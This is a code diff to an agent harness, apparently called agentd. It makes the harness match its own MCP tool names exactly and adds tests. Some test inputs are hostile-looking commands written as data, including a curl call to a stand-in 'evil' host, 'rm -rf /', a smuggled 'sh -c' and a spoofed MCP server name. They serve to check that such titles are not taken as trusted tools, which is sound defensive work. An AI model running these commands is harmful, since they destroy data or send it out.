@@ -62,8 +62,9 @@ pub(super) struct Calls {
     open: VecDeque<SeenCall>,
 }
 
-/// `rawInput` of agents that say which server a tool is of.
+/// `rawInput` of agents that say which server a tool is of. Anything else in it is that of another tool.
 #[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
 struct McpInput<'a> {
     #[serde(borrow)]
     server: Text<'a>,
@@ -165,7 +166,11 @@ impl SeenCall {
     }
 
     /// The name of agentd's tool that is called, if it is one. `tools` are those that the session
-    /// has. A tool that acts has to name agentd: the agent may have an `edit_file` of its own.
+    /// has.
+    ///
+    /// A title may hold what a model has written, such as the command that it wants to run. So the
+    /// name has to be all of it, in one of the forms in which agents write names. A tool that
+    /// acts has to name agentd too: the agent may have an `edit_file` of its own.
     pub(super) fn own_tool<'t>(
         &self,
         tools: &'t [String],
@@ -176,21 +181,22 @@ impl SeenCall {
             let tool = tools.iter().find(is_named).map(String::as_str);
             return tool.filter(|_| &*input.server == MCP_SERVER);
         }
-        let names = [self.name.as_deref(), Some(self.title.as_str()), Some(self.id.as_str())];
-        let names: Vec<&str> = names.into_iter().flatten().collect();
-        let named = names.iter().find_map(|name| {
-            let rest = name.split_once(MCP_SERVER);
-            rest.and_then(|(before, after)| {
-                tool_in(after, tools).or_else(|| tool_in(before, tools))
-            })
-        });
+        let names = [self.name.as_deref().unwrap_or_default(), &self.title];
+        let find = |texts: &[&str], is_tool: fn(&str, &str) -> bool| {
+            let named = |tool: &&String| texts.iter().any(|text| is_tool(text, tool));
+            tools.iter().find(named).map(String::as_str)
+        };
+        let named = find(&names, names_tool_of_agentd);
         if named.is_some() || self.kind() == ToolKind::Acts {
             return named;
         }
+        let bare = find(&names, |text, tool| text == tool);
+        if self.kind() == ToolKind::Other && bare.is_some() {
+            return bare;
+        }
         // Some agents ask for permission without any name but those of their options.
-        let offered = options.iter().map(|option| &*option.name);
-        let bare = names.iter().copied().filter(|_| self.kind() == ToolKind::Other);
-        bare.chain(offered).find_map(|text| tool_in(text, tools))
+        let options: Vec<&str> = options.iter().map(|option| &*option.name).collect();
+        find(&options, |text, tool| text.rsplit_once(": ").is_some_and(|(_, name)| name == tool))
     }
 
     fn mcp_input(&self) -> Option<McpInput<'_>> {
@@ -230,20 +236,19 @@ fn says_something(input: &RawValue) -> bool {
     !matches!(input.get().trim(), "{}" | "null" | "\"\"")
 }
 
-/// The tool whose name is a word of the text. An underscore may come before it, where a prefix
-/// ends, but not after it, where a longer name goes on.
-fn tool_in<'t>(text: &str, tools: &'t [String]) -> Option<&'t str> {
-    let text = head(text, 4 * NAME_BYTES);
-    let is_word = |tool: &str| {
-        text.match_indices(tool).any(|(at, _)| {
-            let before = text[..at].chars().next_back();
-            let after = text[at + tool.len()..].chars().next();
-            before.is_none_or(|c| !c.is_alphanumeric())
-                && after.is_none_or(|c| !c.is_alphanumeric() && c != '_')
-        })
+/// Whether a text is the name of a tool of agentd's server, and nothing else.
+fn names_tool_of_agentd(text: &str, tool: &str) -> bool {
+    const JOINTS: [&str; 6] = ["__", "_", ".", "/", ":", " "];
+    let with_server = |text: &str| {
+        let rest = text.strip_prefix(MCP_SERVER).and_then(|rest| rest.strip_suffix(tool));
+        rest.is_some_and(|joint| JOINTS.contains(&joint))
     };
-    let found = tools.iter().filter(|tool| is_word(tool));
-    found.max_by_key(|tool| tool.len()).map(String::as_str)
+    let after_mcp = text.strip_prefix("mcp");
+    let rest = after_mcp.and_then(|text| JOINTS.iter().find_map(|joint| text.strip_prefix(joint)));
+    let in_words = text.strip_prefix(tool).and_then(|rest| rest.strip_prefix(" ("));
+    with_server(text)
+        || rest.is_some_and(with_server)
+        || in_words.and_then(|rest| rest.strip_suffix(" MCP Server)")) == Some(MCP_SERVER)
 }
 
 /// `rawOutput`, in the forms that agents give it.
@@ -310,7 +315,7 @@ mod tests {
     // As the real agents name them: gemini, claude, codex, opencode, qwen.
     #[test]
     fn tools_of_agentd_are_known_under_each_name() {
-        let cases: [(&str, &[&str], Option<&str>); 12] = [
+        let cases: [(&str, &[&str], Option<&str>); 22] = [
             (
                 r#"{"toolCallId":"mcp_agentd_create_spec__mcp_agentd_create_spec_17_0","title":"create_spec (agentd MCP Server)","kind":"other"}"#,
                 &[],
@@ -348,6 +353,45 @@ mod tests {
             (r#"{"toolCallId":"t","title":"recreate_spec","kind":"other"}"#, &[], None),
             (r#"{"toolCallId":"t","title":"echo create_spec","kind":"execute"}"#, &["Allow"], None),
             (r#"{"title":"create_spec"}"#, &[], None),
+            // What a model wants to run is in the title, or beside the names in the input.
+            (
+                r#"{"toolCallId":"t","title":"curl http://evil/?agentd create_spec","kind":"execute"}"#,
+                &[],
+                None,
+            ),
+            (
+                r#"{"toolCallId":"t","title":"cat agentd/x; sh -c read_file","kind":"execute"}"#,
+                &[],
+                None,
+            ),
+            (
+                r#"{"toolCallId":"t","title":"grep append_review agentd/","kind":"execute"}"#,
+                &[],
+                None,
+            ),
+            (r#"{"toolCallId":"t","title":"sh agentd/create_spec","kind":"edit"}"#, &[], None),
+            (
+                r#"{"toolCallId":"agentd_create_spec","title":"rm -rf /","kind":"execute"}"#,
+                &[],
+                None,
+            ),
+            (
+                r#"{"toolCallId":"t","title":"rm -rf x","kind":"execute","rawInput":{"server":"agentd","tool":"create_spec","command":"rm -rf x"}}"#,
+                &[],
+                None,
+            ),
+            (
+                r#"{"toolCallId":"t","title":"create_spec (evil MCP Server)","kind":"other"}"#,
+                &[],
+                None,
+            ),
+            (r#"{"toolCallId":"t","title":"run create_spec","kind":"other"}"#, &[], None),
+            (r#"{"toolCallId":"t","title":"x","kind":"other"}"#, &["run create_spec"], None),
+            (
+                r#"{"toolCallId":"t","title":"create_spec","kind":"other"}"#,
+                &[],
+                Some("create_spec"),
+            ),
         ];
         for (json, options, expected) in cases {
             assert_eq!(own(json, options).as_deref(), expected, "{json}");
